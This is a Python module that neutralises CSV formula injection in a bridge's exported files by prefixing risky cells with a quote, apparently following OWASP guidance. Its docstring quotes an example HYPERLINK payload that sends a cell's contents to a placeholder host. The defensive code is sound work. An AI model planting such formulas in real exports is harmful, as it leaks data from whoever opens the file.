"""Cells of the CSV files the bridge writes (the audience export, the import's errors file), made safe to
open in a spreadsheet.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets: an External User ID like `=HYPERLINK("http://x.example/?"&A2,"open")` would run when the
operator opens the file. Following OWASP's rule on CSV injection, such a cell is written with a leading
`'`, which spreadsheets show as text. A plain number (`-18000`, an E.164 `+15551234567`) cannot be a
formula and is written as it is.
"""
from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def safe_cell(value: object) -> object:
    """`value` as it should be written to a CSV cell: a string a spreadsheet would evaluate gets a
    leading `'`; everything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return f"'{value}"
    return value


def safe_row(values) -> list[object]:
    """Every cell of a row through `safe_cell`."""
    return [safe_cell(value) for value in values]
